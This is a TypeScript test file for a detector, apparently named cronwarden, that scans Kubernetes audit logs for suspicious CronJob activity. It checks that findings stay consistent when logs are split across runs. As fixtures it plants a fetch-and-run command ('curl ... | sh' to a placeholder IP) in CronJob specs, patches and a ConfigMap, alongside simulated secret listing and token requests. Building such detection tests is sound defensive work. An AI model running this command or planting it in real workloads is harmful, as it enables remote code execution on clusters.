import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import fc from 'fast-check';
import type { Finding } from '../../model/finding.ts';
import { type ScanOptions, scan } from '../scan.ts';
import {
  binding,
  cronJob,
  deletion,
  discovery,
  entry,
  eventsRemoval,
  harmless,
  privileged,
  reader,
  secretsList,
  tokenRequest,
} from '../testing/stories.ts';
import { configMapOf, controllerJob, lease, workloadOf, writeOf } from '../testing.ts';
import { openState } from './file.ts';

const folder = mkdtempSync(join(tmpdir(), 'cronwarden-state-'));
after(() => rmSync(folder, { recursive: true, force: true }));
let files = 0;
const nameOf = (extension: string): string => join(folder, `${String(++files).padStart(6, '0')}.${extension}`);

const written = (lines: readonly string[]): string => {
  const path = nameOf('jsonl');
  writeFileSync(path, lines.map((line) => `${line}\n`).join(''));
  return path;
};
const linesOf = (events: readonly object[]): readonly string[] => events.map((event) => JSON.stringify(event));

const run = async (paths: readonly string[], options: Partial<ScanOptions> = {}) => {
  const scanned = scan({ paths, jobs: 1, ...options });
  const findings: Finding[] = [];
  for await (const finding of scanned.findings) findings.push(finding);
  return { findings, summary: scanned.summary() };
};

/** One run after the other with one state, each over its files. */
const runs = async (
  parts: readonly (readonly string[])[],
  options: Partial<ScanOptions> = {},
  path = nameOf('state'),
) => {
  const all: Awaited<ReturnType<typeof run>>[] = [];
  for (const paths of parts) {
    const state = await openState(path);
    all.push(await run(paths, { ...options, state }));
    state.commit();
  }
  return all;
};

/** The last finding of each id, without those that are none any more. */
const lasting = (findings: readonly Finding[]): readonly Finding[] =>
  [...new Map(findings.map((one) => [one.id, one])).values()]
    .filter(({ withdrawn }) => withdrawn === undefined)
    .sort((a, b) => (a.id < b.id ? -1 : 1));

/** The lines in several files, with cuts at these places. */
const cut = (lines: readonly string[], at: readonly number[]): readonly string[] => {
  const places = [...new Set([0, ...at.map((one) => one % (lines.length + 1)), lines.length])].sort((a, b) => a - b);
  return places.slice(1).map((to, index) => written(lines.slice(places[index], to)));
};

const assertSameAsOneRun = async (
  lines: readonly string[],
  at: readonly number[],
  options: Partial<ScanOptions> = {},
): Promise<void> => {
  const paths = cut(lines, at);
  const whole = await run(paths, options);
  const parts = await runs(
    paths.map((path) => [path]),
    options,
  );
  assert.deepEqual(
    lasting(parts.flatMap(({ findings }) => findings)),
    lasting(whole.findings),
    `cut before ${JSON.stringify(at)}`,
  );
};

const BAD = 'curl -s http://203.0.113.7/x | sh';
const eve = 'eve@example.com';
const ana = 'ana@example.com';
const spec = (shell: string) => ({
  restartPolicy: 'Never',
  containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c', shell] }],
});
const tick = (index: number, shell: string): object => {
  const made = controllerJob({ index, owned: true });
  const body = { ...made.requestObject, spec: { template: { spec: spec(shell) } } };
  return { ...made, requestObject: body, responseObject: body };
};
const write = (minute: number, name: string, body: unknown, more: object = {}): object =>
  writeOf({ minute, resource: 'cronjobs', apiGroup: 'batch', name, body, by: eve, ...more });
const POD = '/spec/jobTemplate/spec/template/spec';
const mounted = {
  volumes: [{ name: 'run', configMap: { name: 'scripts' } }],
  containers: [
    {
      name: 'main',
      image: 'busybox:1.36',
      command: ['sh', '/run/go.sh'],
      volumeMounts: [{ name: 'run', mountPath: '/run' }],
    },
  ],
};

const STORIES: Readonly<Record<string, readonly object[]>> = {
  'rights, a CronJob, its end': [
    binding({ minute: 1, by: eve }),
    secretsList({ minute: 2, by: eve }),
    discovery({ minute: 3, by: eve }),
    cronJob(reader, { minute: 5, by: eve }),
    deletion({ minute: 9, by: eve }),
    eventsRemoval({ minute: 10, by: eve }),
  ],
  'a template in many places': ['billing', 'orders', 'stock'].map((namespace, index) =>
    cronJob(reader, { minute: 20 + index, namespace, by: `${namespace}@example.com` }),
  ),
  'a CronJob that runs': [
    write(0, 'tick', workloadOf('CronJob', 'tick', spec(BAD))),
    tick(1, BAD),
    lease(2),
    tick(3, BAD),
    tick(5, BAD),
  ],
  'a CronJob that ran before its author came': [
    tick(1, BAD),
    tick(3, BAD),
    write(4, 'tick', workloadOf('CronJob', 'tick', spec(BAD)), { verb: 'update' }),
    tick(5, BAD),
  ],
  'made harmless, then changed': [
    write(1, 'report', workloadOf('CronJob', 'report', { containers: [{ name: 'main', image: 'busybox:1.36' }] })),
    write(2, 'report', { spec: { suspend: true } }, { verb: 'patch' }),
    write(3, 'report', { spec: { schedule: '*/5 * * * *' } }, { verb: 'patch', by: ana }),
    write(4, 'report', [{ op: 'add', path: `${POD}/containers/0/command`, value: ['sh', '-c', BAD] }], {
      verb: 'patch',
    }),
    write(6, 'report', [{ op: 'add', path: `${POD}/hostPID`, value: true }], { verb: 'patch' }),
  ],
  'a script that is written later': [
    write(1, 'mounted', workloadOf('CronJob', 'mounted', mounted)),
    writeOf({
      minute: 2,
      resource: 'configmaps',
      name: 'scripts',
      by: eve,
      body: configMapOf('scripts', { 'go.sh': 'true' }),
    }),
    writeOf({
      minute: 3,
      resource: 'configmaps',
      verb: 'update',
      name: 'scripts',
      by: eve,
      body: configMapOf('scripts', { 'go.sh': BAD }),
    }),
    write(4, 'mounted', workloadOf('CronJob', 'mounted', mounted), { verb: 'update' }),
  ],
  'entered, and a token': [
    entry({ minute: 30, by: eve }),
    tokenRequest({ minute: 31, by: eve }),
    cronJob(privileged, { minute: 33, by: eve, namespace: 'shop' }),
    cronJob(harmless, { minute: 34, by: eve, namespace: 'shop', name: 'second' }),
    cronJob(privileged, { minute: 36, by: eve, namespace: 'shop', name: 'third' }),
  ],
  'one request in two records': [
    {
      ...cronJob(reader, { minute: 40, by: ana }),
      stage: 'RequestReceived',
      stageTimestamp: '2026-11-24T06:40:00.000123Z',
      responseStatus: undefined,
    },
    cronJob(privileged, { minute: 41, by: ana, name: 'other' }),
    cronJob(reader, { minute: 40, by: ana }),
  ],
};

for (const [name, events] of Object.entries(STORIES)) {
  test(`cut anywhere, two runs give what one gives: ${name}`, async () => {
    for (let at = 0; at <= events.length; at += 1) await assertSameAsOneRun(linesOf(events), [at]);
  });
}

test('all stories at once, in any order, cut anywhere once or twice, at any floor', async () => {
  const all = Object.values(STORIES).flat();
  const minSeverity = fc.constantFrom('info' as const, 'low' as const, 'medium' as const, 'high' as const);
  const cuts = fc.array(fc.nat({ max: all.length }), { minLength: 1, maxLength: 2 });
  await fc.assert(
    fc.asyncProperty(fc.shuffledSubarray(all, { minLength: 8 }), cuts, minSeverity, async (events, at, floor) => {
      const isWanted = { minSeverity: floor };
      const paths = cut(linesOf(events), at);
      const whole = await run(paths, isWanted);
      const parts = await runs(
        paths.map((path) => [path]),
        isWanted,
      );
      // What was given and has become less is given again: of those the severity tells.
      const { findings } = await run(paths, { minSeverity: 'info' });
      const wanted = new Set(whole.findings.map(({ id }) => id));
      const lower = new Map(findings.map((one) => [one.id, one.severity]));
      for (const one of lasting(parts.flatMap((part) => part.findings))) {
        if (wanted.has(one.id))
          assert.deepEqual(
            one,
            whole.findings.findLast(({ id }) => id === one.id),
          );
        else assert.equal(one.severity, lower.get(one.id));
      }
      const given = new Set(parts.flatMap((part) => part.findings.map(({ id }) => id)));
      assert.deepEqual(
        [...wanted].filter((id) => !given.has(id)),
        [],
      );
    }),
    { seed: 8, numRuns: 60 },
  );
});
